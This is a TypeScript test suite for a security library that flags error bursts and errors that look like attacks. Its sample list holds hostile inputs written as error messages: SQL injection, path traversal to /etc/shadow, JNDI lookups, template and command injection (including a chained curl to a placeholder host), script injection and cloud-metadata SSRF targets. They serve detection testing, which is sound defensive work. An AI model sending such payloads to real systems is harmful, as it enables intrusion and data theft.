import fc from 'fast-check';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { refusalOf } from '../../lib/core/pattern';
import { ATTACK_RULES } from '../../lib/security/attack-rules';
import type { SecurityOptions } from '../../lib/security/options';
import { createSecurity } from '../../lib/security/security';
import { type FakeHost, fakeHost } from './fake-host';

const watching = (options: SecurityOptions = {}) => {
  const host = fakeHost();
  const security = createSecurity(host, { failures: false, errorRate: false, suspiciousErrors: false, ...options });
  return { host, security, rates: () => host.of('high_error_rate'), suspicious: () => host.of('suspicious_error') };
};
const fail = (host: FakeHost, times: number, fingerprint = 'aaaaaaaaaaaa') => {
  for (let time = 0; time < times; time++) host.tell(new Error('plain'), { fingerprint });
};

test('the sixth error within a minute is told, with the fingerprint of most', () => {
  const { host, rates } = watching({ errorRate: {} });
  fail(host, 2, 'bbbbbbbbbbbb');
  fail(host, 3, 'cccccccccccc');
  assert.equal(rates(), []);
  fail(host, 1, 'dddddddddddd');
  assert.equal(rates(), [{ errors: 6, fingerprint: 'cccccccccccc', window_ms: 60_000, severity: 'high' }]);
});

test('it is told once, and again only when the errors had become half as many', () => {
  const { host, rates } = watching({ errorRate: {} });
  // One every 10 s is six within a minute, at the edge, for hours.
  for (let time = 0; time < 1000; time++) {
    host.clock.advance('9.9s');
    fail(host, 1);
  }
  assert.is(rates().length, 1);
  host.clock.advance('1m');
  fail(host, 5);
  assert.is(rates().length, 1);
  fail(host, 1);
  assert.is(rates().length, 2);
});

test('an error of a minute ago does not count', () => {
  for (const [age, expected] of [
    ['59.999s', 1],
    ['60s', 0],
  ] as const) {
    const { host, rates } = watching({ errorRate: {} });
    fail(host, 1);
    host.clock.advance(age);
    fail(host, 5);
    assert.is(rates().length, expected, age);
  }
});

test('warnings and errors told of before are not counted', () => {
  const { host, rates } = watching({ errorRate: {} });
  const place = { level: 'warn', logger: 'app.bot', event: undefined, message: '' } as const;
  for (let time = 0; time < 20; time++) host.tell(new Error('x'), { place });
  for (let time = 0; time < 20; time++) host.tell(new Error('x'), { occurrences: 0 });
  assert.equal(rates(), []);
  for (let time = 0; time < 6; time++) host.tell(undefined, { hasError: false, place: { ...place, level: 'critical' } });
  assert.is(rates().length, 1);
});

test('the rate is exactly that of counting all errors again each time', () => {
  fc.assert(
    fc.property(
      fc.array(fc.integer({ min: 0, max: 300 }), { maxLength: 150 }),
      fc.integer({ min: 1, max: 6 }),
      fc.integer({ min: 1, max: 1500 }),
      (gaps, threshold, window) => {
        const { host, rates } = watching({ errorRate: { threshold, window } });
        const times: number[] = [];
        let [isTold, expected] = [false, 0];
        for (const gap of gaps) {
          if (gap > 0) host.clock.advance(gap);
          const now = host.clock.monotonicTime();
          const before = times.filter((time) => time > now - window).length;
          if (before <= threshold / 2) isTold = false;
          times.push(now);
          if (before + 1 > threshold && !isTold) {
            isTold = true;
            expected++;
          }
          host.tell(new Error('plain'));
          assert.is(rates().length, expected);
        }
        assert.ok(rates().every(({ errors }) => errors === threshold + 1));
      },
    ),
    { numRuns: 300 },
  );
});

const SIGNS: readonly (readonly [pattern: string, error: unknown])[] = [
  ['sql_injection', Object.assign(new Error('syntax error at or near "\'"'), { code: '42601' })],
  ['sql_injection', new Error('You have an error in your SQL syntax; check the manual')],
  ['sql_injection', Object.assign(new Error('near "\'": syntax error'), { code: 'SQLITE_ERROR' })],
  ['sql_injection', new Error("no user ' or '1'='1")],
  ['sql_injection', new Error('no such id: 1 UNION ALL SELECT password FROM users')],
  ['path_traversal', Object.assign(new Error("ENOENT: no such file or directory, open '/srv/files/../../secret'"), { code: 'ENOENT' })],
  ['path_traversal', new Error('not found: %2e%2e%2fetc')],
  ['path_traversal', new Error('not found: ..%5c..%5cboot.ini')],
  ['path_traversal', new Error('not found: %252e%252e%252f')],
  ['path_traversal', new Error('EACCES: /etc/shadow')],
  ['null_byte', new TypeError("The argument 'path' must be a string without null bytes. Received 'a\\x00b'")],
  ['null_byte', new Error('no file a\0b')],
  ['prototype_pollution', new Error('Invalid key "__proto__"')],
  ['prototype_pollution', new Error('Invalid path constructor.prototype.isAdmin')],
  ['prototype_pollution', new Error('Invalid path a[constructor]["prototype"]')],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
  ['jndi_lookup', new Error('unknown agent ${jndi:ldap://x/a}')],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
  ['jndi_lookup', new Error('unknown agent ${${lower:j}ndi:ldap://x/a}')],
  ['template_injection', new Error('no such template {{7*7}}')],
  ['template_injection', new Error("no name ''.__class__.__mro__")],
  ['command_injection', new Error('Command failed: convert a.png; cat /etc/hosts')],
  ['command_injection', new Error('bad host: 127.0.0.1 && curl http://x')],
  ['command_injection', new Error('bad name: $(whoami)')],
  ['command_injection', new Error('bad name: a | id')],
  ['script_injection', new Error('bad name: <ScRiPt>alert(1)</script>')],
  ['script_injection', new Error('bad name: <img src=x onerror=alert(1)>')],
  ['ssrf_target', new Error('fetch failed: http://169.254.169.254/latest/meta-data')],
  ['ssrf_target', new Error('wrapped', { cause: new Error('getaddrinfo metadata.google.internal') })],
  ['invalid_token', Object.assign(new Error('invalid signature'), { name: 'JsonWebTokenError' })],
  ['invalid_token', Object.assign(new Error('x'), { code: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' })],
  ['malformed_input', Object.assign(new Error('Parse Error'), { code: 'HPE_INVALID_METHOD' })],
  ['malformed_input', Object.assign(new Error('x'), { name: 'PayloadTooLargeError' })],
  ['malformed_input', new URIError('x')],
  ['path_traversal', '../../thrown as text'],
];
for (const [pattern, error] of SIGNS) {
  test(`an error looks like an attack (${pattern}): ${String(error).slice(0, 60)}`, () => {
    const { host, suspicious } = watching({ suspiciousErrors: {} });
    host.tell(error);
    assert.equal(suspicious(), [{ fingerprint: 'aaaaaaaaaaaa', error_id: 'id0', pattern, repeats: 0, severity: 'medium' }]);
  });
}

const PLAIN: readonly unknown[] = [
  new Error('connect ECONNREFUSED 127.0.0.1:5432'),
  new Error("Cannot find module '../lib/missing'"),
  Object.assign(new Error("Cannot find package 'x' imported from ../y"), { code: 'ERR_MODULE_NOT_FOUND' }),
  new TypeError("Cannot read properties of undefined (reading 'id')"),
  new Error('Missing name; id must be a number'),
  new Error('Use and or not: a = b'),
  new Error('Command failed: git log | sh-lint'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a mistake people make
  new Error('Hello ${name}, {{ user.name }}'),
  new SyntaxError('Unexpected token < in JSON at position 0'),
  new Error('jwt expired'),
  new Error('The script was selected from the union'),
  new Error('100% done'),
  null,
  undefined,
  5,
  {},
];
for (const error of PLAIN) {
  test(`an everyday error looks like none: ${String(error).slice(0, 60)}`, () => {
    const { host, suspicious } = watching({ suspiciousErrors: {} });
    host.tell(error);
    assert.equal(suspicious(), []);
  });
}

test('nothing of what the error says is in the event', () => {
  const { host, security } = watching({ suspiciousErrors: {} });
  const canary = 'Zq8vT2mX9kLw4RnB';
  host.tell(Object.assign(new Error(`../../${canary}`), { code: canary, name: canary }));
  assert.is(host.of('suspicious_error').length, 1);
  assert.not.match(JSON.stringify([host.written, security.recent()]), canary);
  assert.equal(security.recent()[0]!.found, { fingerprint: 'aaaaaaaaaaaa', error_id: 'id0', pattern: 'path_traversal', repeats: 0 });
});

test('the message of a line without an error is looked at', () => {
  const { host, suspicious } = watching({ suspiciousErrors: {} });
  const place = { level: 'error', logger: 'app.bot', event: undefined, message: 'denied: ../../x' } as const;
  host.tell(undefined, { hasError: false, place });
  host.tell(new Error('fine'), { place, fingerprint: 'bbbbbbbbbbbb' });
  assert.is(suspicious().length, 1);
});

test('one error is told of once a minute, with how often it came meanwhile', () => {
  const { host, security, suspicious } = watching({ suspiciousErrors: {} });
  const attack = (fingerprint?: string) => host.tell(new Error('../../x'), fingerprint === undefined ? {} : { fingerprint });
  for (let time = 0; time < 10; time++) attack();
  attack('bbbbbbbbbbbb');
  host.clock.advance('59.999s');
  attack();
  assert.is(suspicious().length, 2);
  host.clock.advance(1);
  attack();
  attack();
  host.clock.advance('1m');
  attack();
  assert.equal(
    suspicious().map(({ fingerprint, repeats }) => [fingerprint, repeats]),
    [
      ['aaaaaaaaaaaa', 0],
      ['bbbbbbbbbbbb', 0],
      ['aaaaaaaaaaaa', 10],
      ['aaaaaaaaaaaa', 1],
    ],
  );
  assert.is(security.stats().suppressed, 11);
});

test('an error that was told of again leaves after one that was not', () => {
  const { host, security } = watching({ suspiciousErrors: { maxFingerprints: 2 } });
  const attack = (fingerprint: string) => host.tell(new Error('../../x'), { fingerprint });
  attack('again');
  attack('once');
  host.clock.advance('1m');
  attack('again');
  attack('new');
  assert.equal([security.stats().fingerprints, security.stats().suspiciousOverflow], [2, 0]);
});

test('the same error told of twice is counted once', () => {
  const { host, security } = watching({ suspiciousErrors: {} });
  const mark = { id: 'same', fingerprint: 'aaaaaaaaaaaa', occurrences: 1 };
  for (let time = 0; time < 3; time++) host.tell(new Error('../../x'), { mark });
  assert.equal([security.counts().total, security.stats().suppressed], [1, 0]);
});

test('1,000,000 different suspicious errors: at most 10,000 are known, the others are told together and counted', () => {
  const { host, security, suspicious } = watching({ suspiciousErrors: {} });
  host.onWrite = () => {
    if (host.written.length > 100) host.written.length = 0;
  };
  const error = new Error('../../x');
  for (let index = 0; index < 1_000_000; index++) host.tell(error, { fingerprint: `f${index}` });
  const { fingerprints, suspiciousOverflow, suppressed } = security.stats();
  assert.equal([fingerprints, suspiciousOverflow, suppressed], [10_000, 990_000, 989_999]);
  assert.is(security.counts().total, 10_001);
  host.clock.advance('1m');
  host.tell(error, { fingerprint: 'late' });
  assert.equal(
    suspicious()
      .slice(-1)
      .map(({ fingerprint, overflow }) => [fingerprint, overflow]),
    [['late', undefined]],
    'there is room again after a minute',
  );
});

test('own rules are asked after ours, false takes one away; one that throws matches nothing', () => {
  let asked = '';
  const rules = {
    path_traversal: false,
    broken: () => {
      throw new Error('no');
    },
    sticky: /tea/gy,
    mine(text: string) {
      asked = text;
      return text.includes('coffee');
    },
  } as const;
  const { host, suspicious } = watching({ suspiciousErrors: { rules } });
  host.tell(new Error('../../x'), { fingerprint: 'f1' });
  host.tell(Object.assign(new TypeError('coffee'), { code: 'C1' }), { fingerprint: 'f2' });
  for (const fingerprint of ['f3', 'f4', 'f5']) host.tell('tea', { fingerprint });
  assert.equal(
    suspicious().map(({ pattern }) => pattern),
    ['mine', 'sticky', 'sticky', 'sticky'],
  );
  assert.is(asked, 'TypeError C1 coffee');
});

test('the patterns that are there would be accepted as own ones', () => {
  const patterns = Object.values(ATTACK_RULES).filter((rule) => rule instanceof RegExp);
  assert.is(patterns.length, 10);
  for (const pattern of patterns) assert.is(refusalOf(pattern), undefined, String(pattern));
});

test('a rule that answers with a promise matches nothing, and its rejection ends there', async () => {
  let asked = 0;
  const rules = {
    late: (async () => {
      asked++;
      throw new Error('no');
    }) as never,
    sure: (async () => true) as never,
  };
  const { host, suspicious } = watching({ suspiciousErrors: { rules } });
  for (let time = 0; time < 3; time++) host.tell(new Error('plain'), { fingerprint: `f${time}` });
  await new Promise((resolve) => setTimeout(resolve));
  assert.equal([asked, suspicious()], [3, []]);
});

test('2,000 characters of an error and its causes are looked at', () => {
  const texts: string[] = [];
  const rules = { all: (text: string) => texts.push(text) < 0 };
  const { host } = watching({ suspiciousErrors: { rules } });
  const cyclic = new Error('around');
  cyclic.cause = cyclic;
  host.tell(new Error('x'.repeat(10_000_000)), { fingerprint: 'f1' });
  host.tell(cyclic, { fingerprint: 'f2' });
  host.tell(new Error('a', { cause: new Error('b', { cause: 'c' }) }), { fingerprint: 'f3' });
  assert.is(texts[0]!.length, 2000);
  assert.is(texts[1], Array(5).fill('Error around').join('\n'));
  assert.is(texts[2], 'Error a\nError b\nc');
});

test('errors that refuse to be read are errors like others', () => {
  const { host, security } = watching({ errorRate: {}, suspiciousErrors: {} });
  const revoked = Proxy.revocable({}, {});
  revoked.revoke();
  const broken = {
    get message() {
      throw new Error('no');
    },
  };
  for (const error of [revoked.proxy, broken, Object.create(null), Symbol('x'), 5n, () => undefined]) host.tell(error);
  assert.equal([host.of('high_error_rate').length, security.stats().dropped], [1, 0]);
});

test('errors that the log tells of while an event is written are no further ones', () => {
  const { host, security } = watching({ errorRate: { threshold: 1 }, suspiciousErrors: {}, failures: {} });
  host.onWrite = () => host.tell(new Error('../../x'));
  for (let time = 0; time < 10; time++) security.record('authz_fail', { severity: 'high' });
  security.on(() => host.tell(new Error('../../x')));
  security.record('authz_fail');
  assert.equal([host.of('high_error_rate').length, host.of('suspicious_error').length], [0, 0]);
  host.onWrite = () => undefined;
  fail(host, 2);
  assert.is(host.of('high_error_rate').length, 1);
});

test('after close no error is looked at, and events are still recorded', () => {
  const { host, security } = watching({ errorRate: { threshold: 1 } });
  assert.is(host.listeners.size, 1);
  security.close();
  security.close();
  assert.is(host.listeners.size, 0);
  security.record('authz_fail');
  assert.is(host.written.length, 1);
});

test('detectors are changed one by one; one that is changed begins anew', () => {
  const { host, security, rates, suspicious } = watching({ errorRate: { threshold: 2 } });
  fail(host, 2);
  security.configure({ suspiciousErrors: {} });
  fail(host, 1);
  assert.is(rates().length, 1, 'the other one went on counting');
  host.tell(new Error('../../x'));
  assert.is(suspicious().length, 1);
  security.configure({ errorRate: { threshold: 4 }, suspiciousErrors: false });
  for (let time = 0; time < 4; time++) host.tell(new Error('../../x'));
  assert.equal([rates().length, suspicious().length], [1, 1]);
  fail(host, 1);
  assert.equal(rates()[1]!.errors, 5);
  for (const fields of [{ user: 'ann' }, { user: 'ann' }]) security.record('authz_fail', fields);
  security.configure({ failures: { threshold: 1, total: false } });
  for (const fields of [{ user: 'ann' }, { user: 'ann' }]) security.record('authz_fail', fields);
  assert.is(host.of('multiple_failed_attempts').length, 1);
});

test('a change that is refused changes nothing', () => {
  const { host, security, rates } = watching({ errorRate: { threshold: 2 } });
  fail(host, 2);
  assert.throws(() => security.configure({ errorRate: { threshold: 50 }, suspiciousErrors: { every: 0 } }), /OPTION_INVALID/);
  security.configure();
  fail(host, 1);
  assert.is(rates().length, 1);
});

test('what detectors found is told to listeners as the finding of the library', () => {
  const { host, security } = watching({ errorRate: { threshold: 1 } });
  const found: unknown[] = [];
  security.on(({ source, found: what, name }) => found.push([name, source, what]));
  fail(host, 2);
  assert.equal(found, [['high_error_rate', 'library', { errors: 2, fingerprint: 'aaaaaaaaaaaa', window_ms: 60_000 }]]);
});

test.run();
